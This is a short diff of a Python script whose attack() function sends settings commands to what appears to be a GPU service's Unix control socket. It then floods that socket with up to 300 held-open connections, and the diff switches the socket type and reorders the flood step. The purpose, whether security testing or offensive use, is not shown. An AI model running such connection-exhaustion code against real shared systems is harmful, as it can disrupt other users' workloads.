@@ -68,7 +68,7 @@ def command(text):
 
 
 def say(path, sent):
-    with socket.socket(socket.AF_UNIX) as asking:
+    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as asking:
         asking.settimeout(2)
         asking.connect(path)
         asking.sendall(sent)
@@ -105,9 +105,9 @@ def attack():
         *("get_default_active_thread_percentage", "set_default_device_pinned_mem_limit 0 64M"),
     ):
         attempt("commands " + text, lambda: command(text))
-    hold(pipe, kept)
     print("ATTEMPT now: to end it", flush=True)
     end(pipe)
+    hold(pipe, kept)
 
 
 def hold(pipe, kept):
@@ -119,7 +119,7 @@ def hold(pipe, kept):
 
     def connect():
         while len(kept) < 300:
-            asking = socket.socket(socket.AF_UNIX)
+            asking = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
             asking.settimeout(1)
             asking.connect(os.path.join(pipe, "control"))
             kept.append(asking)
